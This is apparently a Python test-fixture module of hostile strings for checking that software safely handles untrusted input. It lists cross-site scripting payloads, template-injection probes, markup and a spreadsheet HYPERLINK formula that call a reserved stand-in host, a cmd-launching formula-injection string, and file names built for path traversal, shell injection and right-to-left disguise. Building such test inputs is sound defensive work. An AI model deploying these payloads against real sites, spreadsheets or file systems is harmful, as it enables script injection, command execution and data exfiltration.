"""Hostile text: what would run, load, leave or mislead, if it were ever taken for more than text."""

from __future__ import annotations

ELSEWHERE = "http://192.0.2.1"
"""An address that nobody has (RFC 5737)."""
MARKUP = (
    "</script><script>ran(1)</script>",
    "</title></style></textarea><script src='http://192.0.2.1/a.js'></script>",
    "<img src=http://192.0.2.1/a.png onerror=ran(2)>",
    "<svg onload=ran(3)><a xlink:href='javascript:ran(4)'><text>x</text></a><use href='http://192.0.2.1/a.svg#a'/></svg>",
    "<style>@import url(http://192.0.2.1/a.css);body{display:none!important}</style>",
    "<link rel=stylesheet href=http://192.0.2.1/b.css><meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<iframe srcdoc='<script>parent.ran(5)</script>'></iframe><object data=http://192.0.2.1/></object>",
    "<base href=http://192.0.2.1/><form action=http://192.0.2.1/><button formaction=javascript:ran(6)>",
    '<a href="javascript:ran(7)" onmouseover=ran(8)>x</a><details open ontoggle=ran(9)>',
    "\" autofocus tabindex=0 onfocus=ran(10) x=\"' onclick='ran(11)",
    "{{7*7}}{{ ''.__class__ }}{% for x in (1,2) %}{{x}}{% endfor %}{# #}${7*7}#{7*7}<%= 7*7 %>",
    "<!--<script>]]><math href=javascript:ran(12)><template><slot>",
    "&lt;script&gt;ran(13)&lt;/script&gt;&#x3c;script&#x3e;",
    "javascript:ran(14)",
    "data:text/html,<script>ran(15)</script>",
    "$\\frac{x$ $x^$ \\N{DASH} %s %(a)s {0} {a}",
)
STRANGE = "\u202e\u2066evil\u2028\u2029\x00\x07\x1b[31m\x7f\x85\ufeff\ufffe\ud83d é́ 𠀀 \\ \" ' ` ; | & $HOME"
HOSTILE = " ".join((*MARKUP, STRANGE))
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "=WEBSERVICE(A1)",
    "\uff1d1+1",
)
NAMES = (
    "line\nbreak",
    "tab\there",
    'quote"double',
    "quote'single",
    "<img src=x onerror=ran(1)>",
    "{{7*7}}",
    "=1+1",
    "-rf",
    "--help",
    "CON",
    "nul.a",
    "\u202egpj.exe",
    "\u2028line",
    "..\\..\\up",
    "C:away",
    "%2e%2e%2fup",
    "a;b|c&d`e`$HOME",
    "\x1b[31mred",
    "\x7f",
    "é́ nfd e\u0301",
    "𠀀" * 60,
    "漢" * 80,
    "x" * 240,
    " ",
    "...",
    "~",
    "*?",
)
"""Names of files that a careless program would trip over, without a suffix."""
